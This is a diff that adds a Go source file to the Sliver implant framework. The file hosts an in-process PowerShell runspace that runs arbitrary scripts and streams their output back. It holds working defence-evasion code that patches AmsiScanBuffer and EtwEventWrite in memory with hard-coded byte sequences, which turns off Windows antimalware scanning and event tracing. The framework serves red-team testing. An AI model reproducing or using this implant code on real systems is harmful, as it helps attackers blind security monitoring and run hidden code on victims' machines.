@@ -0,0 +1,283 @@
+package powershell
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"fmt"
+	"io"
+	"os"
+	"runtime"
+	"sync"
+	"syscall"
+	"unsafe"
+
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/sliver/syscalls"
+
+	"golang.org/x/sys/windows"
+)
+
+const (
+	scriptVariable = "__sliverScript"
+	writerVariable = "__sliverWriter"
+)
+
+var (
+	// PowerShell 3.0 and later (including 5.1) ship version 3.0.0.0 of the
+	// assembly, 2.0 only comes with 1.0.0.0
+	automationAssemblies = []struct {
+		Name   string
+		Legacy bool
+	}{
+		{"System.Management.Automation, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35", false},
+		{"System.Management.Automation, Version=1.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35", true},
+	}
+
+	// mov eax, E_INVALIDARG; ret
+	amsiPatch64 = []byte{0xB8, 0x57, 0x00, 0x07, 0x80, 0xC3}
+	amsiPatch32 = []byte{0xB8, 0x57, 0x00, 0x07, 0x80, 0xC2, 0x18, 0x00}
+	// xor eax, eax; ret
+	etwPatch64 = []byte{0x48, 0x33, 0xC0, 0xC3}
+	etwPatch32 = []byte{0x33, 0xC0, 0xC2, 0x14, 0x00}
+
+	host  *runspace
+	mutex = &sync.Mutex{}
+)
+
+// Options - AMSI and ETW are patched in the implant process, so once they
+// are bypassed they stay bypassed for every later script
+type Options struct {
+	AmsiBypass bool
+	EtwBypass  bool
+}
+
+// runspace - A runspace hosted in the implant's default AppDomain, it is
+// kept open so variables and imported modules persist between scripts
+type runspace struct {
+	legacy       bool
+	runspaceType *comObject
+	proxyType    *comObject
+	pipelineType *comObject
+	runspace     syscalls.Variant
+	proxy        syscalls.Variant
+}
+
+// Run - Run a script in the hosted runspace, everything the script outputs
+// (including errors) is formatted as text and written to output as the
+// script produces it
+func Run(script string, options Options, output io.Writer) error {
+	mutex.Lock()
+	defer mutex.Unlock()
+	runtime.LockOSThread()
+	defer runtime.UnlockOSThread()
+
+	// COM is left initialized, the runspace outlives this call and would be
+	// torn down with the last thread of the multithreaded apartment
+	err := syscalls.CoInitializeEx(0, coinitMultithreaded)
+	if err != nil && err != syscall.Errno(sFalse) {
+		return comError(err)
+	}
+
+	if options.EtwBypass {
+		err = patch("ntdll.dll", "EtwEventWrite", etwPatch64, etwPatch32)
+		if err != nil {
+			return err
+		}
+	}
+	if host == nil {
+		host, err = newRunspace()
+		if err != nil {
+			return err
+		}
+	}
+	// The assembly loads amsi.dll on its own, but only when the first script
+	// is scanned, which would be too late
+	if options.AmsiBypass {
+		err = patch("amsi.dll", "AmsiScanBuffer", amsiPatch64, amsiPatch32)
+		if err != nil {
+			return err
+		}
+	}
+	return host.run(script, output)
+}
+
+func newRunspace() (*runspace, error) {
+	appDomain, err := defaultAppDomain()
+	if err != nil {
+		return nil, err
+	}
+	defer appDomain.release()
+
+	var assembly *comObject
+	host := &runspace{}
+	for _, automation := range automationAssemblies {
+		assembly, err = loadAssembly(appDomain, automation.Name)
+		if err == nil {
+			host.legacy = automation.Legacy
+			break
+		}
+		// {{if .Debug}}
+		log.Printf("[powershell] failed to load %s: %s", automation.Name, err)
+		// {{end}}
+	}
+	if err != nil {
+		return nil, err
+	}
+	defer assembly.release()
+
+	factoryType, err := getType(assembly, "System.Management.Automation.Runspaces.RunspaceFactory")
+	if err != nil {
+		return nil, err
+	}
+	defer factoryType.release()
+	host.runspaceType, err = getType(assembly, "System.Management.Automation.Runspaces.Runspace")
+	if err != nil {
+		return nil, err
+	}
+	host.proxyType, err = getType(assembly, "System.Management.Automation.Runspaces.SessionStateProxy")
+	if err != nil {
+		host.close()
+		return nil, err
+	}
+	host.pipelineType, err = getType(assembly, "System.Management.Automation.Runspaces.Pipeline")
+	if err != nil {
+		host.close()
+		return nil, err
+	}
+
+	host.runspace, err = invokeMember(factoryType, "CreateRunspace", bindingInvokeMethod|bindingStatic|bindingPublic, nil)
+	if err != nil {
+		host.close()
+		return nil, err
+	}
+	err = callMethod(host.runspaceType, "Open", &host.runspace)
+	if err != nil {
+		host.close()
+		return nil, err
+	}
+	host.proxy, err = invokeMember(host.runspaceType, "SessionStateProxy", bindingGetProperty|bindingInstance|bindingPublic, &host.runspace)
+	if err != nil {
+		host.close()
+		return nil, err
+	}
+	return host, nil
+}
+
+// run - The script is passed in a variable so it doesn't have to be quoted,
+// and is dot sourced so what it defines persists. Its output is written to an anonymous pipe which we read as the
+// pipeline runs, PowerShell borrows our handle to the write end
+func (host *runspace) run(script string, output io.Writer) error {
+	var reader, writer windows.Handle
+	err := windows.CreatePipe(&reader, &writer, nil, 0)
+	if err != nil {
+		return err
+	}
+	readerFile := os.NewFile(uintptr(reader), "powershell")
+	done := make(chan error)
+	go func() {
+		_, err := io.Copy(output, readerFile)
+		readerFile.Close()
+		done <- err
+	}()
+
+	err = host.setVariable(scriptVariable, script)
+	if err == nil {
+		err = host.invoke(host.command(writer))
+		host.setVariable(scriptVariable, "")
+	}
+	windows.CloseHandle(writer)
+	copyErr := <-done
+	if err != nil {
+		return err
+	}
+	return copyErr
+}
+
+func (host *runspace) command(writer windows.Handle) string {
+	// PowerShell 2.0 can't redirect streams other than errors
+	redirect := "*>&1"
+	if host.legacy {
+		redirect = "2>&1"
+	}
+	return fmt.Sprintf(`$%[1]s = New-Object IO.StreamWriter((New-Object IO.Pipes.AnonymousPipeClientStream([IO.Pipes.PipeDirection]::Out, (New-Object Microsoft.Win32.SafeHandles.SafePipeHandle([IntPtr]%[2]d, $false)))), (New-Object Text.UTF8Encoding($false)))
+$%[1]s.AutoFlush = $true
+try {
+	. ([ScriptBlock]::Create($%[3]s)) %[4]s | Out-String -Stream -Width 4096 | ForEach-Object { $%[1]s.WriteLine($_) }
+} catch {
+	$%[1]s.WriteLine(($_ | Out-String))
+} finally {
+	$%[1]s.Dispose()
+	Remove-Variable -Name %[1]s
+}`, writerVariable, uintptr(writer), scriptVariable, redirect)
+}
+
+func (host *runspace) setVariable(name string, value string) error {
+	nameArg := stringVariant(name)
+	defer syscalls.VariantClear(&nameArg)
+	valueArg := stringVariant(value)
+	defer syscalls.VariantClear(&valueArg)
+	return callMethod(host.proxyType, "SetVariable", &host.proxy, nameArg, valueArg)
+}
+
+func (host *runspace) invoke(command string) error {
+	commandArg := stringVariant(command)
+	defer syscalls.VariantClear(&commandArg)
+	pipeline, err := invokeMember(host.runspaceType, "CreatePipeline", bindingInvokeMethod|bindingInstance|bindingPublic, &host.runspace, commandArg)
+	if err != nil {
+		return err
+	}
+	defer syscalls.VariantClear(&pipeline)
+	return callMethod(host.pipelineType, "Invoke", &pipeline)
+}
+
+func (host *runspace) close() {
+	syscalls.VariantClear(&host.proxy)
+	syscalls.VariantClear(&host.runspace)
+	host.runspaceType.release()
+	host.proxyType.release()
+	host.pipelineType.release()
+}
+
+// patch - Overwrite the start of an exported function, the library is loaded
+// if it isn't already
+func patch(dll string, proc string, patch64 []byte, patch32 []byte) error {
+	patch := patch64
+	if unsafe.Sizeof(uintptr(0)) == 4 {
+		patch = patch32
+	}
+	procAddr := windows.NewLazySystemDLL(dll).NewProc(proc)
+	err := procAddr.Find()
+	if err != nil {
+		return err
+	}
+	addr := procAddr.Addr()
+	var oldProtect uint32
+	err = windows.VirtualProtect(addr, uintptr(len(patch)), windows.PAGE_EXECUTE_READWRITE, &oldProtect)
+	if err != nil {
+		return err
+	}
+	copy((*[16]byte)(unsafe.Pointer(addr))[:len(patch)], patch)
+	// {{if .Debug}}
+	log.Printf("[powershell] patched %s!%s at 0x%x", dll, proc, addr)
+	// {{end}}
+	return windows.VirtualProtect(addr, uintptr(len(patch)), oldProtect, &oldProtect)
+}